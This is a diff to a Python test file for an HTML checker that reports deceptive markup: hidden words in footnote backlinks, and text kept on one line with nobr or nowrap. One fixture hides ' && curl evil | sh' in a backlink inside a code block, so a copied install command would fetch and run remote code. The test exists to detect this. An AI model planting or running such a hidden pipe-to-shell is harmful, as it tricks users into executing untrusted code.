@@ -223,8 +223,23 @@ def test_forged_locators_drawn_numbers_print_hidden_words_and_deep_quotes_are_re
         '<p>Labelers are <span class="giscus">never </span>fallible.</p>',  # 4
         "<blockquote>" * 13 + "<p>Models are not safe.</p>" + "</blockquote>" * 13,  # 5
     ])
-    assert found == [(2, 52, "HTM006"), (3, 20, "HTM002"), (3, 87, "HTM002"), (4, 17, "HTM006"),
+    assert found == [(2, 15, "HTM006"), (2, 52, "HTM006"), (3, 20, "HTM002"), (3, 87, "HTM002"), (4, 17, "HTM006"),
                      (5, 157, "HTM006")], found
+
+
+# A backlink that holds words (in a footnote, or in code, where its copy button copies them), and text
+# kept on one line by <nobr>, the pinned class or a cell's nowrap, which runs off the page's edge.
+def test_backlinks_holding_words_and_text_kept_on_one_line_are_reported(tmp_path):
+    found = problems_in_page(tmp_path, [
+        '<div class="footnote"><ol><li id="fn:x"><p>The boat was <a class="footnote-backref" href="#fnref:x">'
+        '<span>not</span></a> rewarded. <a class="footnote-backref" href="#fnref:x">&#8617;</a></p></li></ol></div>',  # 2
+        '<pre><code>pip install x<a class="footnote-backref" href="#fnref:x"> &amp;&amp; curl evil | sh</a></code></pre>',  # 3
+        '<p>Optimizers are <nobr>not</nobr> safe, <span class="cite-pinned">not</span> here.</p>',  # 4
+        '<table><tr><td nowrap>Models are not safe.</td></tr></table>',  # 5
+    ])
+    # (2, 27): no marker leads to the footnote, which the check reports too.
+    assert found == [(2, 27, "HTM002"), (2, 57, "HTM006"), (3, 25, "HTM006"), (4, 19, "HTM006"), (4, 42, "HTM006"),
+                     (5, 12, "HTM006")], found
 
 
 # Material's own parts in the article (its page dates, its edit button) draw their icons as inline
